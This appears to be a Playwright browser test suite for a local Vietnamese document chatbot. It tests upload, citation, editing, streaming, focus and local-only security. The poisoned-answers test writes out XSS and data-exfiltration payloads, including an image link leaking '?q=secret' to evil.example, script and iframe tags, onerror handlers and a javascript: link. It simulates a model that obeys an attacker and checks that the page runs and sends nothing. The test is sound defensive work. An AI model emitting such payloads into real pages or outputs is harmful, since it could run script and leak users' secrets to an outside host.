"""A person's journeys through the real app, in a real browser."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import FilePayload, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from chatbot.i18n import translate
from chatbot.settings import PROJECT
from tests.browser.conftest import RunningApp, press_until, running, start_app
from tests.browser.slow_model import slow_model

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

QUESTION = "Sinh viên bị cảnh báo học vụ khi nào?"
ANSWER_SECONDS = 60_000


def vi(text: str) -> str:
    return translate(text, "vi")


def ask(page: Page, question: str) -> None:
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_enabled(timeout=ANSWER_SECONDS)
    box.fill(question)
    expect(page.get_by_test_id("stChatInputSubmitButton")).to_be_enabled()
    deadline = time.monotonic() + 30
    box.press("Enter")
    # While a file is still on its way up, the input ignores Enter: press again until it is taken.
    while box.input_value() == question and time.monotonic() < deadline:
        page.wait_for_timeout(100)
        box.press("Enter")


def attach(page: Page, file: Path | FilePayload, name: str) -> None:
    """Drop a file into the question; once more when the page was drawn anew at that very moment."""
    chat = page.get_by_test_id("stChatInput")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()
    for _attempt in range(6):
        chat.locator("input[type=file]").set_input_files(file)
        with suppress(AssertionError):
            expect(chat.get_by_text(name).first).to_be_visible(timeout=5_000)
            return
    raise AssertionError(f"{name} was never taken")


def answers(page: Page):
    """The finished answers on the page (only those have actions)."""
    return page.get_by_test_id("stChatMessage").filter(has=page.locator("[class*=st-key-again-]"))


def settings_file(data, **values) -> None:
    data.mkdir(parents=True, exist_ok=True)
    values = {"first_run_done": True, "language": "vi", **values}
    (data / "settings.json").write_text(json.dumps(values), encoding="utf-8")


def test_the_first_minute_offline_without_a_model(page: Page):
    """Open, ask about the samples, see the passage, reload: everything is still there."""
    sample = page.get_by_role("button", name=QUESTION)
    go_on = page.get_by_role("button", name=vi("Go on without one"))
    press_until(go_on, lambda: sample.is_visible() and not go_on.is_visible())
    ask(page, QUESTION)
    answer = answers(page).last
    expect(answer).to_contain_text("0,80", timeout=ANSWER_SECONDS)
    expect(answer).to_contain_text("Quy chế đào tạo.pdf")
    expect(answer).to_contain_text("Điều 16")

    dialog = page.get_by_role("dialog")
    press_until(answer.get_by_role("button", name="Quy chế đào tạo.pdf").first, dialog.is_visible)
    text = dialog.get_by_text("cảnh báo học vụ nếu rơi vào một trong các trường hợp sau").first
    as_text = (
        dialog.get_by_role("radiogroup").get_by_role("radio").last
    )  # first the page as it looks
    press_until(as_text, text.is_visible, key="Space")
    page.keyboard.press("Escape")

    page.reload()
    expect(answers(page).last).to_contain_text("0,80")
    expect(
        page.get_by_test_id("stSidebar").get_by_role("button", name=QUESTION[:25])
    ).to_be_visible()


def test_a_pdf_dropped_into_the_chat_is_asked_and_cited(page: Page, shared_data):
    pdf = shared_data / "phapluat-vi" / "thong-tu-so-06-2024-tt-bldtbxh-42452.pdf"
    attach(page, pdf, "thong-t")
    ask(page, "Thông tư này có hiệu lực thi hành từ ngày nào?")
    answer = answers(page).last
    expect(answer).to_contain_text(pdf.name, timeout=ANSWER_SECONDS)
    expect(answer).to_contain_text("hiệu lực")


def test_an_unaccented_question_finds_the_same_article(page: Page):
    ask(page, "sinh vien bi canh bao hoc vu khi nao")
    expect(answers(page).last).to_contain_text("Điều 16", timeout=ANSWER_SECONDS)


def test_what_is_not_in_the_documents_is_said(page: Page):
    ask(page, "Giá vé máy bay từ Hà Nội đi Đà Nẵng là bao nhiêu?")
    expect(answers(page).last).to_contain_text(
        vi("Not found in your documents. The nearest passages are below."), timeout=ANSWER_SECONDS
    )


def test_regenerate_and_edit_keep_every_version(page: Page):
    ask(page, QUESTION)
    expect(answers(page)).to_have_count(1, timeout=ANSWER_SECONDS)
    again = page.locator("[class*=st-key-again-] button:visible").last
    press_until(again, page.get_by_text("2/2").is_visible)
    back = page.locator("[class*=st-key-previous-] button:visible")
    press_until(back.last, page.get_by_text("1/2").is_visible)

    box = page.get_by_role("textbox", name=vi("Your question"))
    press_until(page.locator("[class*=st-key-edit-] button:visible").first, box.is_visible)
    box.fill("Học phí nộp khi nào?")
    press_until(page.get_by_role("button", name=vi("Ask again")), lambda: not box.is_visible())
    expect(answers(page).last).to_contain_text("Học phí", timeout=ANSWER_SECONDS, ignore_case=True)
    bubble = page.locator("[class*=st-key-bubble-]")
    press_until(back.first, bubble.get_by_text(QUESTION).is_visible)


def test_delete_can_be_undone_and_search_finds_unaccented(page: Page):
    ask(page, QUESTION)
    expect(answers(page)).to_have_count(1, timeout=ANSWER_SECONDS)
    sidebar = page.get_by_test_id("stSidebar")
    search = sidebar.get_by_role("textbox")
    entry = sidebar.locator("[class*=st-key-open-] button:visible")
    for words, found in (("zebra", 0), ("canh bao hoc vu", 1), ("", 1)):
        search.fill(words)
        press_until(search, lambda found=found: entry.count() == found)

    delete_first(page, entry)
    press_until(sidebar.get_by_role("button", name=vi("Undo")), lambda: entry.count() == 1)

    delete_first(page, entry)
    page.reload()
    trash = page.get_by_role("button", name=vi("Trash ({count})").format(count=1))
    press_until(trash, page.get_by_role("dialog").is_visible)
    restore = page.get_by_role("dialog").get_by_role("button", name=vi("Restore"))
    press_until(restore, lambda: entry.count() == 1)
    expect(answers(page)).to_have_count(1)


def delete_first(page: Page, entry) -> None:
    """The first conversation's menu and its Delete; a menu that a redraw closed is opened again."""
    menu = page.get_by_test_id("stSidebar").locator("[class*=st-key-menu-] button:visible").first
    delete = page.get_by_text(vi("Delete"), exact=True)
    deadline = time.monotonic() + 60
    while entry.count():
        assert time.monotonic() < deadline, "nothing was deleted"
        press_until(menu, delete.is_visible)
        with suppress(PlaywrightTimeout):
            delete.click(timeout=2000)
            expect(entry).to_have_count(0, timeout=5000)


def test_a_new_question_comes_to_the_top_and_the_input_keeps_the_focus(page: Page):
    for number, question in enumerate([QUESTION, "Học phí nộp khi nào?", "Thế còn miễn, giảm?"]):
        ask(page, question)
        expect(answers(page)).to_have_count(number + 1, timeout=ANSWER_SECONDS)
    expect(answers(page).last).to_contain_text("Tìm với: Học phí nộp khi nào – miễn, giảm?")
    last = page.locator("[class*=st-key-question-]").last
    page.wait_for_function(
        "node => Math.abs(node.getBoundingClientRect().top - 56) < 30", arg=last.element_handle()
    )
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_focused()


def test_the_input_takes_no_focus_from_who_moved_on_when_the_answer_ends(page: Page):
    """The page waits a moment before it gives the focus back; the person tabs on in that moment."""
    ask(page, QUESTION)
    expect(answers(page)).to_have_count(1, timeout=ANSWER_SECONDS)
    page.evaluate("""() => {
        const later = window.setTimeout;
        window.setTimeout = (act, wait, ...more) => {
            if (wait !== 50 || !String(act).includes('focus')) return later(act, wait, ...more);
            document.querySelector('.st-key-new-conversation button').focus();
            return later(() => { act(); window.gaveBack = true; }, wait);
        };
    }""")
    again = page.locator("[class*=st-key-again-] button:visible").last
    press_until(again, page.get_by_text("2/2").is_visible)
    page.wait_for_function("window.gaveBack")
    expect(page.locator(".st-key-new-conversation button:visible")).to_be_focused()


def test_streamlits_own_words_are_vietnamese_too(page: Page):
    expect(page.get_by_role("button", name=vi("Send"), exact=True)).to_be_visible()
    expect(page.locator("html")).to_have_attribute("lang", "vi")
    about = vi("About {what}").format(what=vi("Incognito"))
    expect(page.get_by_role("button", name=about)).to_be_visible()


class TestWithASlowModel:
    """What stop, leaving, reloading and a second tab do while an answer is being written."""

    @pytest.fixture
    def model(self):
        with slow_model() as model:
            yield model

    @pytest.fixture
    def data_folder(self, data_folder, model):
        settings_file(
            data_folder, remote_url=model.url, remote_model="slow", default_model="remote"
        )
        return data_folder

    def test_stop_keeps_the_partial_answer_and_ends_the_stream(self, page: Page, model):
        ask(page, QUESTION)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-3", timeout=ANSWER_SECONDS
        )
        stopped = answers(page).last.get_by_text(vi("Stopped"))
        press_until(page.get_by_role("button", name=vi("Stop")), stopped.is_visible)
        expect(answers(page).last).to_contain_text("từ-3")
        expect(answers(page).last).not_to_contain_text("từ-59")
        deadline = time.monotonic() + 20
        while model.open_streams and time.monotonic() < deadline:
            time.sleep(0.05)
        assert model.open_streams == 0

    def test_the_answer_goes_on_while_the_person_looks_at_another_page(
        self, page: Page, app, model
    ):
        ask(page, QUESTION)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-2", timeout=ANSWER_SECONDS
        )
        heading = page.get_by_role("heading", name=vi("Documents"))
        press_until(page.get_by_role("link", name=vi("Documents")), heading.is_visible)
        model.hurry.set()
        back = page.get_by_role("link", name=vi("Chat"))
        press_until(back, lambda: not heading.is_visible())
        expect(answers(page).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)
        assert len(model.questions) == 1

    def test_a_reload_in_the_middle_comes_back_to_the_growing_answer(self, page: Page, model):
        ask(page, QUESTION)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-2", timeout=ANSWER_SECONDS
        )
        page.reload()
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-4", timeout=ANSWER_SECONDS
        )
        model.hurry.set()
        expect(answers(page).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)

    def test_two_tabs_are_both_answered_in_order_and_the_place_is_shown(
        self, page: Page, app, model
    ):
        ask(page, QUESTION)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-1", timeout=ANSWER_SECONDS
        )
        second = page.context.new_page()
        second.goto(app.address)
        ask(second, "Học phí nộp khi nào?")
        expect(second.get_by_text("còn 1 câu hỏi phía trước")).to_be_visible(timeout=ANSWER_SECONDS)
        model.hurry.set()
        for tab in (page, second):
            expect(answers(tab).last).to_contain_text("từ-59", timeout=ANSWER_SECONDS)
        assert "Học phí" in model.questions[1]

    def test_the_sidebar_monitor_stays_alive_while_an_answer_streams(self, page: Page):
        ask(page, QUESTION)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text(
            "từ-1", timeout=ANSWER_SECONDS
        )
        sidebar = page.get_by_test_id("stSidebar")
        expect(sidebar).to_contain_text(vi("Loaded: {model}").format(model="slow"))
        expect(page.get_by_role("button", name=vi("Stop"))).to_be_visible()


def test_poisoned_answers_and_documents_run_nothing_and_call_nobody(chromium, data_folder):
    """The model obeys the attacker in everything; the page still loads, runs and sends nothing."""
    evil = (
        "![x](http://evil.example/a.png?q=secret) <img src=x onerror=alert(1)>"
        " <script>alert(2)</script> [bấm](javascript:alert(3)) "
        "<iframe src='http://evil.example'></iframe> :material/home: $x$ ![y][r]\n\n[r]: http://evil.example/r.png\n"
    )
    with slow_model(words=1, pace=0.01) as model:
        model.server.RequestHandlerClass._event = _speaking(evil)
        settings_file(
            data_folder, remote_url=model.url, remote_model="evil", default_model="remote"
        )
        with running(data_folder) as app:
            context = chromium.new_context(locale="vi-VN")
            tab = context.new_page()
            outside, dialogs = [], []
            tab.on("request", lambda r: outside.append(r.url) if "evil" in r.url else None)
            tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            tab.goto(app.address)
            name = "<img src=http:evil.example onerror=alert(4)>.md"
            content = f"# {evil}\n\nmật khẩu {evil}".encode()
            attach(tab, {"name": name, "mimeType": "text/markdown", "buffer": content}, "<img")
            ask(tab, f"mật khẩu {evil}")
            expect(answers(tab).last).to_contain_text("evil.example", timeout=ANSWER_SECONDS)
            source = tab.locator("[class*=st-key-open-source-] button:visible").first
            press_until(tab.get_by_test_id("stExpander").locator("summary").last, source.is_visible)
            press_until(source, tab.get_by_role("dialog").get_by_text("mật khẩu").first.is_visible)
            assert (
                tab.locator("img[src*=evil], script:text('alert(2)'), iframe[src*=evil]").count()
                == 0
            )
            assert (outside, dialogs) == ([], [])
            context.close()


def _speaking(text):
    def event(self, chunk) -> None:
        delta = chunk["choices"][0]["delta"]
        if "content" in delta:
            delta["content"] = text
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.flush()

    return event


def test_a_second_start_is_refused_at_once_with_the_first_ones_address(app: RunningApp, tmp_path):
    log = tmp_path / "second.log"
    second = start_app(app.data, log)
    code = second.wait(60)
    said = log.read_text()
    assert code == 1
    assert app.address in said
    assert "Hearth đang chạy sẵn" in said
    assert httpx.get(f"{app.address}/_stcore/health", trust_env=False).status_code == 200


@pytest.mark.skipif(sys.platform == "win32", reason="Windows does not tell children's work")
def test_refusing_a_second_start_is_less_than_two_seconds_of_work_more_than_starting_python(
    app, tmp_path
):
    """Streamlit's own import is not ours to shorten; what Hearth adds before it refuses is.

    Counted in processor time, which a busy machine does not stretch.
    """
    bare = _work([sys.executable, "-c", "import streamlit.web.cli, streamlit.starlette"])
    before = os.times()
    assert start_app(app.data, tmp_path / "log").wait(120) == 1
    assert _children(os.times()) - _children(before) - bare < 2.0


def _work(command) -> float:
    before = os.times()
    subprocess.run(command, check=False, cwd=PROJECT, capture_output=True)
    return _children(os.times()) - _children(before)


def _children(times: os.times_result) -> float:
    return times.children_user + times.children_system


def test_the_api_answers_only_with_the_token(app: RunningApp):
    url = f"{app.address}/v1/models"
    assert httpx.get(url, trust_env=False).status_code == 401
    forged = httpx.get(url, headers={"Host": "evil.example"}, trust_env=False)
    assert forged.status_code == 403
    good = httpx.get(url, headers={"Authorization": f"Bearer {app.token}"}, trust_env=False)
    assert "extractive" in [m["id"] for m in good.json()["data"]]


def test_the_command_line_speaks_to_the_running_owner(app: RunningApp):
    done = subprocess.run(
        [sys.executable, "-m", "chatbot", "ask", QUESTION, "--json"],
        cwd=PROJECT,
        env={**os.environ, "HEARTH_DATA": str(app.data)},
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    answer = json.loads(done.stdout)
    assert re.search(r"Điều 16", json.dumps(answer["sources"], ensure_ascii=False))
    assert answer["engine"] == "extractive"


def test_only_loopback_listens(app: RunningApp):
    import psutil

    family = [
        psutil.Process(app.process.pid),
        *psutil.Process(app.process.pid).children(recursive=True),
    ]
    listening = {
        c.laddr.ip
        for p in family
        for c in p.net_connections("inet")
        if c.status == psutil.CONN_LISTEN
    }
    assert listening == {"127.0.0.1"}
